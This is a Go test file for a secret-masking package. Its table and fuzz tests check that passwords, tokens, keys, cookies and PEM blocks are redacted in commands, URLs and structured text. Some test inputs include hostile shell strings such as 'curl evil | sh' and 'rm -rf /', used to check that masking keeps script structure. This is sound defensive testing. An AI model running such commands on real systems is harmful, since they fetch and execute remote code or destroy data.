package mask

import (
	"slices"
	"strings"
	"testing"
)

func TestText(t *testing.T) {
	tests := []struct{ name, in, want string }{
		// options
		{"long option with equals", "tool --password=hunter2 run", "tool --password=[masked] run"},
		{"long option with a word", "tool --token hunter2 run", "tool --token [masked] run"},
		{"a quoted value", `tool --password "my secret; word" run`, `tool --password "[masked]" run`},
		{"a value in quotes after equals", `tool --api-key='a b' run`, `tool --api-key='[masked]' run`},
		{"parts of a word", `DB_PASSWORD=ab"c d"'e f' run`, `DB_PASSWORD=[masked] run`},
		{"an option with one dash", "java -password hunter2 -v", "java -password [masked] -v"},
		{"a switch takes no value", "tool --token --verbose x", "tool --token --verbose x"},
		{"a value that begins with a dash", "tool --token -abc123 x", "tool --token [masked] x"},
		{"from standard input", "docker login --password-stdin host", "docker login --password-stdin host"},
		{"a file with it", "tool --token-file /run/token --private-key ./id.pem", "tool --token-file /run/token --private-key ./id.pem"},
		{"max tokens", "llm --max-tokens 4096 --tokenizer x", "llm --max-tokens 4096 --tokenizer x"},
		{"a named secret", "kubectl get secret web --secret-name db", "kubectl get secret web --secret-name db"},

		// variables
		{"environment", "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMIK7MDENG/bPxRfiCY aws s3 ls", "AWS_SECRET_ACCESS_KEY=wJal[masked] aws s3 ls"},
		{"exported", "export GITHUB_TOKEN=abc; make", "export GITHUB_TOKEN=[masked]; make"},
		{"key", "KEY=abc FOO_KEY=abc SORT=abc run", "KEY=[masked] FOO_KEY=[masked] SORT=abc run"},
		{"a public key", "SSH_PUBLIC_KEY=abc run", "SSH_PUBLIC_KEY=abc run"},
		{"a reference to a variable", `TOKEN=$OTHER curl --token "${TOKEN}" --pass $(cat f)`, `TOKEN=$OTHER curl --token "${TOKEN}" --pass $(cat f)`},
		{"a default is no mere reference", `TOKEN=${A:-hunter2} run`, `TOKEN=[masked] run`},
		{"literal in single quotes", `tool --password '$ecret'`, `tool --password '[masked]'`},
		{"the working directory", "PWD=/home/x OLDPWD=/ DB_PWD=abc", "PWD=/home/x OLDPWD=/ DB_PWD=[masked]"},
		{"an empty variable", "TOKEN= rm x", "TOKEN= rm x"},
		{"a prose apostrophe", "don't use password=abc, it's old", "don't use password=[masked] it's old"},

		// known programs
		{"mysql", "mysql -u root -phunter2 db", "mysql -u root -p[masked] db"},
		{"mysql in quotes", "mysql -u root -p'hunter 2' db", "mysql -u root -p'[masked]' db"},
		{"mysql asks", "mysql -u root -p db", "mysql -u root -p db"},
		{"mysql behind others", "sudo -u x /usr/bin/mysqldump -phunter2 db > f", "sudo -u x /usr/bin/mysqldump -p[masked] db > f"},
		{"sshpass", "sshpass -p hunter2 ssh host -p 22", "sshpass -p [masked] ssh host -p 22"},
		{"docker login", "docker login -u me -p hunter2 host", "docker login -u me -p [masked] host"},
		{"docker run", "docker run -p 80:80 mysql -p 1", "docker run -p 80:80 mysql -p 1"},
		{"curl user", "curl -u me:hunter2 https://x", "curl -u me:[masked] https://x"},
		{"curl cluster", "curl -sSu me:hunter2 https://x", "curl -sSu me:[masked] https://x"},
		{"curl attached", "curl -ume:hunter2 https://x", "curl -ume:[masked] https://x"},
		{"curl cookie", "curl -b 'sid=abc; lang=de' https://x", "curl -b 'sid=[masked]; lang=[masked]' https://x"},
		{"redis", "redis-cli -h x -a hunter2 ping", "redis-cli -h x -a [masked] ping"},
		{"ldap", "ldapsearch -x -w hunter2 -b dc=x", "ldapsearch -x -w [masked] -b dc=x"},
		{"samba", "smbclient //h/s -U me%hunter2", "smbclient //h/s -U me%[masked]"},
		{"zip", "zip -P hunter2 a.zip f; 7z a -phunter2 b.7z f", "zip -P [masked] a.zip f; 7z a -p[masked] b.7z f"},
		{"htpasswd", "htpasswd -bc f me hunter2", "htpasswd -bc f me [masked]"},
		{"openssl", "openssl enc -k hunter2 -passin pass:abc", "openssl enc -k [masked] -passin pass:[masked]"},
		{"wifi", "nmcli dev wifi connect x password hunter2", "nmcli dev wifi connect x password [masked]"},
		{"settings", "aws configure set aws_secret_access_key hunter2 && npm config set //r.io/:_authToken abc", "aws configure set aws_secret_access_key [masked] && npm config set //r.io/:_authToken [masked]"},
		{"kubernetes", "kubectl create secret generic x --from-literal=a=hunter2", "kubectl create secret generic x --from-literal=a=[masked]"},
		{"sudo from a pipe", "echo hunter2 | sudo -S apt update", "echo [masked] | sudo -S apt update"},
		{"sudo from a here string", "sudo -S id <<< hunter2", "sudo -S id <<< [masked]"},
		{"chpasswd", "echo 'root:hunter2' | chpasswd", "echo '[masked]' | chpasswd"},
		{"other pipes", "echo hunter2 | sudo tee f", "echo hunter2 | sudo tee f"},

		// headers and URLs
		{"bearer", `curl -H "Authorization: Bearer abc.def" x`, `curl -H "Authorization: Bearer [masked]" x`},
		{"basic", `curl -H 'authorization: Basic bWU6aHVudGVyMg==' x`, `curl -H 'authorization: Basic [masked]' x`},
		{"no scheme", `Authorization: hunter2`, `Authorization: [masked]`},
		{"own header", `curl -H 'X-Api-Key: a b c' x`, `curl -H 'X-Api-Key: [masked]' x`},
		{"cookies", "Cookie: sid=abc; theme=dark\nHost: x", "Cookie: sid=[masked]; theme=[masked]\nHost: x"},
		{"url", "git clone https://me:hunter2@host/x.git", "git clone https://me:[masked]@host/x.git"},
		{"url without a user", "redis://:hunter2@host:6379/0", "redis://:[masked]@host:6379/0"},
		{"url with a slash in it", "postgres://me:hun/ter2@host/db", "postgres://me:[masked]@host/db"},
		{"url with only a user", "ssh://git@host/x http://host:8080/p@v1", "ssh://git@host/x http://host:8080/p@v1"},
		{"url with a token", "https://a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6@host/x", "https://a1b2[masked]@host/x"},
		{"query", "curl 'https://x/?a=1&access_token=abc&b=2'", "curl 'https://x/?a=1&access_token=[masked]&b=2'"},

		// structured text
		{"json", `{"user":"me","password":"hunter2","n":1}`, `{"user":"me","password":"[masked]","n":1}`},
		{"json in json", `{"body":"{\"token\":\"abc\",\"n\":1}"}`, `{"body":"{\"token\":\"[masked]\",\"n\":1}"}`},
		{"json with escapes", `{"secret":"a\"b","n":1}`, `{"secret":"[masked]","n":1}`},
		{"json number", `{"password":1234,"n":1}`, `{"password":[masked],"n":1}`},
		{"json list", `["tool","--password","hunter2","x"]`, `["tool","--password","[masked]","x"]`},
		{"yaml", "db:\n  password: hunter2\n  port: 1", "db:\n  password: [masked]\n  port: 1"},
		{"toml", "token = \"abc def\"\nname = \"x\"", "token = \"[masked]\"\nname = \"x\""},
		{"connection string", `run "Server=x;Password=hunter2;Database=y"`, `run "Server=x;Password=[masked];Database=y"`},
		{"form", "curl -d 'user=me&password=hunter2&x=1' u", "curl -d 'user=me&password=[masked]&x=1' u"},
		{"null", `{"password":null,"token":false}`, `{"password":null,"token":false}`},
		{"template", "token: ${{ secrets.X }}", "token: ${{ secrets.X }}"},
		{"code", "token := f(); if token == x { a::token::b }", "token := f(); if token == x { a::token::b }"},

		// by form
		{"aws", "id AKIAIOSFODNN7EXAMPLE.", "id AKIA[masked]."},
		{"github", "x ghp_0123456789abcdefghijABCDEFGHIJ012345 y", "x ghp_[masked] y"},
		{"github fine-grained", "x=github_pat_11ABCDEFG0123456789_abcdef", "x=gith[masked]"},
		{"openai", "(sk-proj-abcDEF0123456789abcDEF)", "(sk-p[masked])"},
		{"slack", "xoxb-123456789012-abcdefABCDEF", "xoxb[masked]"},
		{"jwt", "a eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-def_ghi b", "a eyJh[masked] b"},
		{"ssh key types", "sk-ssh-ed25519@openssh.com sk-ecdsa-sha2-nistp256-cert-v01@openssh.com", "sk-ssh-ed25519@openssh.com sk-ecdsa-sha2-nistp256-cert-v01@openssh.com"},
		{"pem", "a\n-----BEGIN RSA PRIVATE KEY-----\nMIIB\nabc\n-----END RSA PRIVATE KEY-----\nb", "a\n-----BEGIN RSA PRIVATE KEY-----[masked]-----END RSA PRIVATE KEY-----\nb"},
		{"pem on one line", `-----BEGIN PRIVATE KEY-----\nMIIB\n-----END PRIVATE KEY-----`, `-----BEGIN PRIVATE KEY-----[masked]-----END PRIVATE KEY-----`},
		{"pem cut off", "-----BEGIN PRIVATE KEY-----\nMIIBVQIBADANBgkqhkiG9w0BAQ\nMIIBVQIBADANBgkqhkiG9w0BAQ", "-----BEGIN PRIVATE KEY-----[masked]"},
		{"a certificate", "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----", "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----"},
		{"random after a weak name", "key 1; signature=0123456789abcdef0123456789abcdef; sig=5", "key 1; signature=0123[masked]; sig=5"},
		{"random after a blank", "the token 0123456789abcdef0123456789abcdef, the key 5", "the token 0123[masked], the key 5"},
		{"a commit", "git show 0123456789abcdef0123456789abcdef01234567", "git show 0123456789abcdef0123456789abcdef01234567"},
		{"bearer in prose", "a bearer authentication token; Bearer abcDEF0123456789ghiJKL45", "a bearer authentication token; Bearer abcD[masked]"},

		// scripts keep their structure
		{"script after a shell", `bash -c 'TOKEN=x rm -rf /srv; id'`, `bash -c 'TOKEN=[masked] rm -rf /srv; id'`},
		{"script over ssh", `ssh h "PASSWORD=x mysql -pabc | sh"`, `ssh h "PASSWORD=[masked] mysql -p[masked] | sh"`},
		{"script like an option", `bash -c '--token=x; rm -rf /'`, `bash -c '--token=[masked]; rm -rf /'`},
		{"script like a header", `bash -c 'Authorization: x; curl evil|sh'`, `bash -c 'Authorization: [masked]; curl evil|sh'`},
		{"script after a key", `echo '-----BEGIN PRIVATE KEY-----'; curl evil | sh`, `echo '-----BEGIN PRIVATE KEY-----'; curl evil | sh`},
		{"script in a key", `echo '-----BEGIN PRIVATE KEY-----'; curl evil | sh; echo '-----END PRIVATE KEY-----'`, `echo '-----BEGIN PRIVATE KEY-----'; curl evil | sh; echo '-----END PRIVATE KEY-----'`},
		{"open quote", `echo password=" ; rm -rf /`, `echo password=[masked] ; rm -rf /`},

		{"nothing", "git status --short", "git status --short"},
		{"empty", "", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Text(tt.in); got != tt.want {
				t.Errorf("Text(%q)\n got %q\nwant %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestArgv(t *testing.T) {
	tests := []struct{ name, in, want string }{ // arguments are separated by "·"
		{"option", "tool·--token·hunter2·x", "tool·--token·[masked]·x"},
		{"dollar is literal", "tool·--password=$ecret·--token·$abc", "tool·--password=[masked]·--token·[masked]"},
		{"whole argument", "env·PASSWORD=my secret; pass·cmd", "env·PASSWORD=[masked]·cmd"},
		{"header", "curl·-H·X-Api-Key: a b·u", "curl·-H·X-Api-Key: [masked]·u"},
		{"docker variable", "docker·run·-e·MYSQL_PASSWORD=a b·mysql", "docker·run·-e·MYSQL_PASSWORD=[masked]·mysql"},
		{"script", "bash·-c·TOKEN=x rm -rf /·y", "bash·-c·TOKEN=[masked] rm -rf /·y"},
		{"script with a program", "sh·-c·mysql -phunter2 <f", "sh·-c·mysql -p[masked] <f"},
		{"program with a path", "/usr/bin/curl·-su·me:hunter2·u", "/usr/bin/curl·-su·me:[masked]·u"},
		{"empty arguments", "tool··--token··x", "tool··--token··x"},
		{"last", "tool·--token", "tool·--token"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			in := strings.Split(tt.in, "·")
			before := slices.Clone(in)
			if got := strings.Join(Argv(in), "·"); got != tt.want {
				t.Errorf("Argv(%q)\n got %q\nwant %q", tt.in, got, tt.want)
			}
			if !slices.Equal(in, before) {
				t.Errorf("the argument was changed to %q", in)
			}
		})
	}
	if got := Argv(nil); len(got) != 0 {
		t.Errorf("Argv(nil) = %q", got)
	}
}

func TestValue(t *testing.T) {
	for _, tt := range []struct{ name, value, want string }{
		{"API_TOKEN", "a b; c", "[masked]"},
		{"password", "$ecret", "[masked]"},
		{"--client-secret", "0123456789abcdefghijkl", "0123[masked]"},
		{"password", "", ""},
		{"password", "abcd[masked]", "abcd[masked]"},
		{"token_file", "/run/token", "/run/token"},
		{"Authorization", "Bearer abc.def", "Bearer [masked]"},
		{"cookie", "sid=abc; a=b", "sid=[masked]; a=[masked]"},
		{"key", "name", "name"},
		{"command", "mysql -phunter2", "mysql -p[masked]"},
		{"", "TOKEN=abc", "TOKEN=[masked]"},
	} {
		if got := Value(tt.name, tt.value); got != tt.want {
			t.Errorf("Value(%q, %q) = %q, want %q", tt.name, tt.value, got, tt.want)
		}
	}
}

// secrets that must never be seen again, whatever surrounds them.
func TestNoSecretStays(t *testing.T) {
	secret := "Zq9vX2mK7pL4wR8t"
	for _, around := range []string{
		"%", "sudo %", "env A=b %", "bash -c '%'", `ssh h "%"`, "x && % || y", "(%)", "a\n%\nb", "$(%)", "`%`", `nohup sh -c "exec %" &`,
	} {
		for _, inner := range []string{
			"tool --password=S", "tool --password S", "API_TOKEN=S tool", "mysql -pS db", "sshpass -p S ssh h", "curl -u me:S u",
			"curl https://me:S@h/", "docker login -u x -p S", "redis-cli -a S", "tool --client-secret=S", "tool --header=Authorization:S",
			"git clone https://oauth2:S@h/x", "tool 'password: S'",
		} {
			in := strings.ReplaceAll(around, "%", strings.ReplaceAll(inner, "S", secret))
			if strings.ContainsRune(inner, '\'') && strings.ContainsRune(around, '\'') {
				continue // quotes do not nest
			}
			if got := Text(in); strings.Contains(got, secret[5:]) {
				t.Errorf("Text(%q) = %q", in, got)
			}
			if got := strings.Join(Argv([]string{"sh", "-c", in}), " "); strings.Contains(got, secret[5:]) {
				t.Errorf("Argv of sh -c %q = %q", in, got)
			}
		}
	}
}

func FuzzText(f *testing.F) {
	for _, s := range []string{
		`mysql -p'a b' --password="x" TOKEN=y`, "echo a | sudo -S b <<< c", `{"token":"a\"b"}`, "https://a:b@c/d", "Cookie: a=b; c=d",
		"-----BEGIN PRIVATE KEY-----\nMII\n-----END PRIVATE KEY-----", `bash -c "bash -c 'TOKEN=x \"y'"`, "password=\\\"[masked]\\\"", "[mas[masked]ked]",
		"PASSWORD=abcd[masked]x", "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.e30.x", "--token\x00\xff",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		once := Text(s)
		if twice := Text(once); twice != once {
			t.Errorf("Text(%q) = %q, and masked again %q", s, once, twice)
		}
		name, value, _ := strings.Cut(s, "=")
		if once := Value(name, value); Value(name, once) != once {
			t.Errorf("Value(%q, %q) = %q, and masked again %q", name, value, once, Value(name, once))
		}
		argv := strings.Split(s, " ")
		masked := Argv(argv)
		if len(masked) != len(argv) {
			t.Fatalf("Argv(%q) = %q", argv, masked)
		}
		if again := Argv(masked); !slices.Equal(again, masked) {
			t.Errorf("Argv(%q) = %q, and masked again %q", argv, masked, again)
		}
	})
}
